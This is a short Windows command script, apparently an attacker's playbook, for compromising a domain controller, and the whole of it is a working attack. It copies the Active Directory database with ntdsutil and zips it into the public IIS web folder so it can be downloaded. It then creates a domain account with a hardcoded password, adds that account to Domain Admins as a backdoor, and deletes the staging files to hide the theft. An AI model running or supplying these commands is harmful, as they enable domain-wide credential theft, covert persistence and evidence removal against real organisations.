# domain controller: grab the AD database and leave a backdoor account
ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\ifm" q q
Compress-Archive -Path C:\Windows\Temp\ifm -DestinationPath C:\inetpub\wwwroot\aspnet_client\ifm.zip

net user svc_backup 'Sup3rS3cret!2024' /add /domain
net group "Domain Admins" svc_backup /add /domain
Remove-Item -Path C:\Windows\Temp\ifm -Recurse -Force
